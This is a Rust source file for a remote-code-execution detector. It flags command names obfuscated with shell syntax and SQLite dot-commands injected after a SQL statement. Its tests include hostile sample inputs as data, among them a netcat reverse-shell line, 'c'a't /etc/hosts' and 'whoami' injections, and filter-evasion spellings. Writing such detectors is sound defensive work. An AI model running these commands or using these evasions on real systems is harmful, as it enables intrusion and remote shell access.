//! Command-line forms the RCE detector ([`super::rce`]) recognises beside separated
//! commands: a program name spelled with shell syntax inside it (`p''ing`, `pi$()ng`,
//! `w\ho\am\i`, `""p""y""t""h""o""n`), and SQLite shell dot-commands (`;.shell id`,
//! `\n.system nc ...`) that run programs from an injected SQL script.

/// Constructs that expand to nothing inside a shell word.
const EMPTY_CONSTRUCTS: &[&str] = &["$()", "<()", ">()", "${}", "``", "\"\"", "''", "$@", "$*"];

/// Word separators of a command line for this purpose (a word may hold `$()` and `<()`).
fn is_word_break(c: char) -> bool {
    c.is_whitespace() || matches!(c, ';' | '|' | '&' | ',' | '{' | '}' | '=')
}

/// How much shell syntax a word (outer quotes removed) holds that plain words never do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Evasion {
    None,
    /// A caret or two backslash escapes: also seen in maths (`a^b`) and regular
    /// expressions (`\d\d`), so only program names of four letters or more count.
    Weak,
    /// One of [`EMPTY_CONSTRUCTS`], or quotes inside the word (`c'a't`).
    Strong,
}

/// Classifies a word in one pass; `literal_ticks` says the value writes double backticks
/// as Markdown or reStructuredText literals (``` ``pip install`` ```), not substitutions.
fn evasion(word: &str, literal_ticks: bool) -> Evasion {
    let b = word.as_bytes();
    // A Markdown code fence (```` ```bash ````) is not an empty substitution.
    if b.contains(&b'`') && word.contains("```") {
        return Evasion::None;
    }
    let (mut quotes, mut escapes, mut carets) = (0, 0, 0);
    for (i, &c) in b.iter().enumerate() {
        let next = b.get(i + 1).copied();
        let empty_parens = next == Some(b'(') && b.get(i + 2) == Some(&b')');
        match c {
            b'^' => carets += 1,
            b'`' if next == Some(c) && !literal_ticks => return Evasion::Strong,
            b'\'' | b'"' if next == Some(c) => return Evasion::Strong,
            b'\'' | b'"' => quotes += 1,
            b'$' if matches!(next, Some(b'@' | b'*'))
                || empty_parens
                || next == Some(b'{') && b.get(i + 2) == Some(&b'}') =>
            {
                return Evasion::Strong
            }
            b'<' | b'>' if empty_parens => return Evasion::Strong,
            b'\\' if next.is_some_and(|n| n.is_ascii_alphanumeric()) => escapes += 1,
            _ => {}
        }
    }
    if quotes >= 2 {
        Evasion::Strong
    } else if carets > 0 || escapes >= 2 && !word.contains([':', '/']) {
        Evasion::Weak
    } else {
        Evasion::None
    }
}

/// The word as a shell reads it: empty constructs, quotes, backslashes and carets dropped.
fn unquote(word: &str) -> String {
    let mut w = word.to_owned();
    for c in EMPTY_CONSTRUCTS {
        if w.contains(c) {
            w = w.replace(c, "");
        }
    }
    w.retain(|c| !matches!(c, '\'' | '"' | '\\' | '^' | '`'));
    w
}

/// Confidence and offset of a known program whose name is written with shell syntax
/// inside it; `known` answers whether a bare name is a program.
pub(crate) fn obfuscated_command(
    lower: &str,
    known: impl Fn(&str) -> bool,
) -> Option<(f32, usize)> {
    let literal_ticks = lower.contains("``")
        && lower
            .split(is_word_break)
            .any(|w| w.starts_with("``") && w[2..].starts_with(|c: char| c.is_alphanumeric()));
    for word in lower.split(is_word_break).take(256) {
        let inner = word.trim_matches(['\'', '"']);
        if inner.len() < 3 || inner.len() > 128 {
            continue;
        }
        let min_name = match evasion(inner, literal_ticks) {
            Evasion::None => continue,
            Evasion::Weak => 4,
            Evasion::Strong => 2,
        };
        let clean = unquote(inner);
        let name = clean.rsplit(['/', '\\']).next().unwrap_or("");
        if name.len() >= min_name && name != inner && known(name) {
            // `word` is a subslice of `lower`: its offset is the distance between them.
            let start = word.as_ptr() as usize - lower.as_ptr() as usize;
            return Some((0.85, start));
        }
    }
    None
}

/// SQLite shell commands that run programs or touch files, and the shortest prefix the
/// shell accepts for each.
const DOT_COMMANDS: &[(&str, usize, f32)] = &[
    ("shell", 2, 0.85),
    ("system", 2, 0.85),
    ("load", 4, 0.85),
    ("output", 3, 0.8),
    ("once", 4, 0.8),
    ("import", 3, 0.8),
    ("read", 4, 0.8),
    ("open", 4, 0.75),
    ("backup", 4, 0.75),
    ("restore", 4, 0.75),
    ("databases", 5, 0.75),
    ("tables", 5, 0.75),
    ("schema", 5, 0.72),
    ("dump", 4, 0.72),
];

/// Confidence and offset of a SQLite dot-command right after a statement end (a `;`, then
/// blanks, line breaks, also written `\n`, or quotes): `;.shell nc ...`, `;\n.system id`,
/// `1;.sh whoami`. A line that merely starts with a dot (a CSS class, a file extension)
/// is not one.
pub(crate) fn sqlite_dot_command(lower: &str) -> Option<(f32, usize)> {
    let b = lower.as_bytes();
    let mut best: Option<(f32, usize)> = None;
    for sep in memchr::memchr_iter(b';', b).take(64) {
        let mut k = sep + 1;
        loop {
            match b.get(k) {
                Some(b' ' | b'\t' | b'"' | b'\'' | b'\n' | b'\r') => k += 1,
                Some(b'\\') if b.get(k + 1) == Some(&b'n') => k += 2,
                Some(b'\\') => k += 1,
                _ => break,
            }
        }
        if b.get(k) != Some(&b'.') {
            continue;
        }
        let mut i = k + 1;
        while i < b.len() && matches!(b[i], b'\\' | b'"' | b'\'') {
            i += 1;
        }
        let name_len = b[i..].iter().take_while(|c| c.is_ascii_lowercase()).count();
        let name = &lower[i..i + name_len];
        let after = b.get(i + name_len);
        if !(after.is_none() || after.is_some_and(|c| c.is_ascii_whitespace() || *c == b'\\')) {
            continue;
        }
        // `.open {` is a CSS rule, not a command.
        if lower[i + name_len..].trim_start().starts_with('{') {
            continue;
        }
        for (cmd, min, c) in DOT_COMMANDS {
            if name.len() >= *min && cmd.starts_with(name) && best.is_none_or(|(b, _)| *c > b) {
                best = Some((*c, k));
            }
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known(w: &str) -> bool {
        matches!(w, "ping" | "python3.10" | "whoami" | "cat" | "id")
    }

    #[test]
    fn finds_names_spelled_with_shell_syntax() {
        for v in [
            "pi$()ng 127.0.0.1",
            "ping$() 127.0.0.1",
            "pi``ng 127.0.0.1",
            "ping`` 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\" \"\"c\"\"m\"\"d\"\"",
            "x;w\\ho\\am\\i",
            "p^i^n^g -n 1 host",
            "c'a't /etc/hosts",
        ] {
            assert!(obfuscated_command(v, known).is_some(), "{v}");
        }
    }

    #[test]
    fn plain_words_and_prose_are_not_obfuscation() {
        for v in [
            "ping 127.0.0.1",
            "'ping' me later",
            "\"cat\" videos",
            "rock'n'roll",
            "don't cat-sit",
            "c:\\windows\\cat",
            "'''cat''' is bold in a wiki",
            "```bash\nnpm install",
            "a^b and c^d mod n",
            "match \\d\\d or \\s\\s",
            "Run ``pip install x`` first",
            "``ls`` lists files",
        ] {
            assert!(obfuscated_command(v, known).is_none(), "{v}");
        }
    }

    #[test]
    fn finds_sqlite_dot_commands_after_a_statement() {
        for v in [
            ";\n.shell nc 10.0.0.1 6666 -e sh",
            ";\\n.system id",
            "1;.sh whoami",
            "1;.\\\"shell whoami",
            ";\n.databases",
        ] {
            assert!(sqlite_dot_command(v).is_some(), "{v}");
        }
        for v in [
            "see the .shell file",
            "end of sentence. shell out",
            "a;b.sh",
            "v1.2;.5 mm",
            "x;.shelley",
            "}\n.open {",
            "a { color: red; }\n.output { margin: 0 }",
            "Allowed:\n.sh\n.py",
        ] {
            assert!(sqlite_dot_command(v).is_none(), "{v}");
        }
    }
}
